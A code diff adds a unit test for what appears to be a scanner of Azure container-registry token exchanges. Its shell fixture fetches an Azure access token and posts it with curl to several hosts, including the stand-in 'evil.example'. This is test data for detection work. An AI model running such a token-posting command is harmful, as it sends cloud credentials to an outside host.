@@ -216,3 +216,21 @@ def test_what_is_no_script_is_not_read() -> None:
 def test_a_recording_of_an_exchange_makes_none(line: str) -> None:
     assert read_file("a.yaml", f"host: management.azure.com\n{line}\n") == []
     assert read_file("a.go", f'host := "management.azure.com"\n{line}\n') == []
+
+
+def test_an_exchange_names_the_registry_of_its_address_and_each_once() -> None:
+    hosts = (
+        "contoso.azurecr.io",
+        "Fabrikam.azurecr.io:443",
+        "contoso.azurecr.io",
+        "$HOST",
+        "x$y.azurecr.io",
+        "evil.example",
+    )
+    lines = [f'curl -X POST "https://{host}/oauth2/exchange" -d "access_token=$T"' for host in hosts]
+    text = "\n".join(["T=$(az account get-access-token --query accessToken -o tsv)", *lines])
+    assert [(place.line, place.registry) for place in read_file("a.sh", text)] == [
+        (2, "contoso.azurecr.io"),
+        (3, "fabrikam.azurecr.io"),
+        (5, None),
+    ]
